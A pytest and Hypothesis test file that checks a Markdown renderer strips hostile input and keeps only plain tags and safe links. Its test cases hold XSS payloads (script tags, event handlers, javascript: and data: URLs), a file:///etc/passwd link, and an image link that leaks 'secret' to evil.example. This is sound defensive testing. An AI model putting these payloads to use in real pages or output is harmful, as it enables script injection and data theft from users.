"""Markdown whoever wrote it: nothing in it runs, calls home or leads anywhere but to pages."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.web.markdown import is_safe_link, to_html

_TAGS = re.compile(r"<\s*/?\s*([a-zA-Z0-9]+)([^>]*)>")
_PLAIN = frozenset(
    "a p ul ol li h1 h2 h3 h4 h5 h6 strong em s code pre blockquote br hr "  # noqa: SIM905
    "table thead tbody tr th td div".split()
)
_ATTRIBUTES = re.compile(r'\s([a-zA-Z-]+)="')
_HARMLESS = frozenset(("href", "target", "rel", "class", "tabindex", "title", "start", "style"))


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt:alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a](data:text/html,<script>alert(1)</script>)",
        "[a](vbscript:x)",
        "[a](file:///etc/passwd)",
        "[a](//evil.example/x)",
        "![secret](https://evil.example/?q=secret)",
        '<https://a.example/"onmouseover=alert(1)>',
        '[a](https://a.example "x\\" onclick=\\"alert(1)")',
        "|<svg onload=alert(1)>|\n|-|\n|<b onclick=x>|",
        "```<img onerror=x>\n<script>\n```",
        "[x]: javascript:alert(1)\n[x]",
    ],
)
def test_hostile_text_stays_text(text: str) -> None:
    check(to_html(text))


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.sampled_from("<>\"'&[]()!|-*`#:/\\ \nabjsrcipt=on"), max_size=120))
def test_no_text_makes_anything_but_plain_markup(text: str) -> None:
    check(to_html(text))


def check(html: str) -> None:
    for name, attributes in _TAGS.findall(html):
        assert name.lower() in _PLAIN, html
        assert set(_ATTRIBUTES.findall(attributes)) <= _HARMLESS, html
    for address in re.findall(r'href="([^"]*)"', html):
        assert is_safe_link(address.replace("&amp;", "&")), html
    assert "src=" not in re.sub(r"&[a-z]+;|>[^<]*<", "><", f">{html}<")


def test_what_is_meant_is_shown() -> None:
    html = to_html(
        "【算出来的】\n- 访问量\n- 转化率\n比较了 3 个\n\n"
        "| 甲 | 乙 |\n|---|---|\n| 1 | 2 |\n\n[页](/guidance/smart)"
    )
    assert "<h4>算出来的</h4>" in html
    assert html.index("</ul>") < html.index("比较了 3 个")
    assert "<td>1</td>" in html
    assert '<a href="/guidance/smart">页</a>' in html
    outside = to_html("[页](https://a.example/)")
    assert 'rel="noopener noreferrer nofollow"' in outside
    assert 'target="_blank"' in outside
